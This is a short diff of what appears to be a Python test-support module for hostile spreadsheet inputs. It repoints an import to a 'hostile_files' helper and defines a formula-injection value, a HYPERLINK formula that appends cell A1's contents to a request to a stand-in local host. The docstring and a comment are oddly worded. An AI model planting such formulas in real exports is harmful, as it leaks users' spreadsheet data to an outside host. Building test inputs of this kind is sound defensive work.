@@ -1,7 +1,7 @@
 """Calls the submission and its files like formulas, so that the table in which someone opens the class computes them."""
 
 # makes a folder
-from making import ZERO
+from tests.support.hostile_files import ZERO
 
 CALLED = '=HYPERLINK("http://127.0.0.1/?"&A1,"Ada")'
 
